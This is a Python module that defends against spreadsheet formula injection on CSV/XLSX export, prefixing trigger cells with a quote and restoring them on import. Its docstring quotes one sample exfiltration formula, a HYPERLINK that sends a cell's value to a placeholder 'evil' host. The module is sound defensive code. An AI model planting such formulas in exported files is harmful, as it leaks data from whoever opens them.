"""Spreadsheet cells that cannot run: CSV/XLSX formula injection neutralised on export.

A spreadsheet program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return) as a formula, so a factor name such as
``=HYPERLINK("http://evil/?"&A1)`` exported unchanged runs when a reviewer opens the file.
Following the OWASP guidance [1]_, every exporter passes its text cells through
:func:`neutralise`, which prefixes such a cell with a single quote (shown as text, never
evaluated). Numbers stay numbers: ``-0.31`` (a removal) is written unchanged.

The importers undo the prefix with :func:`restore`, so an export reads back to the same
records. A value that itself starts with quotes before a trigger (``'=x``) gets one more quote
on export and loses one on import, so the round trip is exact for every string.

References
----------
.. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
   (accessed 2026-03-02): prepend a single quote to cells beginning with ``=``, ``+``, ``-``,
   ``@``, tab (0x09) or carriage return (0x0D).
"""

from __future__ import annotations

import re
from collections.abc import Mapping

#: First characters that make a spreadsheet evaluate a cell (OWASP "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: A plain decimal number (optionally signed, with exponent): left as it is.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
#: Zero or more quotes, then a trigger: the cells :func:`neutralise` prefixes.
_QUOTED_TRIGGER = re.compile(r"'*[=+\-@\t\r]")


def neutralise(value: str) -> str:
    """``value`` made safe for a spreadsheet cell: ``'`` prefixed before a formula trigger."""
    if _NUMBER.fullmatch(value) or not _QUOTED_TRIGGER.match(value):
        return value
    return "'" + value


def restore(value: str) -> str:
    """The value :func:`neutralise` was given (one leading ``'`` removed before a trigger)."""
    if value.startswith("'") and _QUOTED_TRIGGER.match(value, 1):
        return value[1:]
    return value


def neutralise_row(row: Mapping[str, object]) -> dict[str, str]:
    """Every cell of a CSV row as neutralised text."""
    return {key: neutralise(str(value)) for key, value in row.items()}
